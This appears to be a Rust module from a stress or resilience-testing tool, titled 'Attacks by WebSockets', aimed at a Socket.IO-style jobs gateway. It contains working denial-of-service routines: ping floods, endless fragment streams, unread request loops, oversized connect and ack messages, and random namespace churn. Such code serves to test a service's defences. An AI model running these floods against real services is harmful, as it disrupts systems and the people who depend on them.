//! Attacks by WebSockets.

use std::time::Duration;

use super::websocket::{CONTINUATION, FINAL, PING, TEXT, frame, join, open, text};
use crate::{Failure, hand::Hand, preload};

/// For how long a socket is kept that does nothing more.
const KEPT: Duration = Duration::from_secs(30);

pub async fn mute(hand: Hand) -> Result<(), Failure> {
    open(&hand).await?.hold(KEPT).await
}

pub async fn ping_flood(mut hand: Hand) -> Result<(), Failure> {
    let mut line = open(&hand).await?;
    let pings = frame(FINAL | PING, &[b'p'; 125]).repeat(500);
    loop {
        line.send(&pings).await?;
        hand.pause(5).await;
    }
}

pub async fn fragments(mut hand: Hand) -> Result<(), Failure> {
    let mut line = join(&hand).await?;
    line.send(&frame(TEXT, b"4")).await?;
    let one = frame(CONTINUATION, b"2").repeat(50);
    loop {
        line.send(&one).await?;
        hand.pause(50).await;
    }
}

pub async fn unread_latest(hand: Hand) -> Result<(), Failure> {
    ask(hand, |_| r#"42/jobs,7["subscribe:jobs",{}]"#.to_owned()).await
}

pub async fn unread_asks(hand: Hand) -> Result<(), Failure> {
    let question = |hand: &mut Hand| {
        let job = preload::deep_job(&mut hand.random);
        format!(r#"42/jobs,7["history:jobs",{{"jobId":"{job}"}}]"#)
    };
    ask(hand, question).await
}

/// Asks for something ten times a second, and reads nothing.
async fn ask(mut hand: Hand, question: impl Fn(&mut Hand) -> String) -> Result<(), Failure> {
    let mut line = join(&hand).await?;
    loop {
        line.send(&text(&question(&mut hand))).await?;
        hand.pause(100).await;
    }
}

pub async fn repeated_connect(mut hand: Hand) -> Result<(), Failure> {
    let mut line = join(&hand).await?;
    let auth = "x".repeat(if hand.number.is_multiple_of(2) { 0 } else { 10_000 });
    let connect = text(&format!(r#"40/jobs,{{"x":"{auth}"}}"#));
    let connects = connect.repeat(200_000 / connect.len());
    loop {
        line.send(&connects).await?;
        // Where answers wait, the gateway may read no further.
        line.drain();
        hand.pause(10).await;
    }
}

pub async fn namespaces(mut hand: Hand) -> Result<(), Failure> {
    let mut line = join(&hand).await?;
    loop {
        let name = hand.random.u64(..);
        line.send(&text(&format!("40/{name:x},{{}}"))).await?;
        hand.pause(5).await;
    }
}

pub async fn giant_acks(mut hand: Hand) -> Result<(), Failure> {
    let mut line = join(&hand).await?;
    let ack = text(&format!(r#"43/jobs,12["{}"]"#, "a".repeat(100_000)));
    loop {
        line.send(&ack).await?;
        hand.pause(200).await;
    }
}
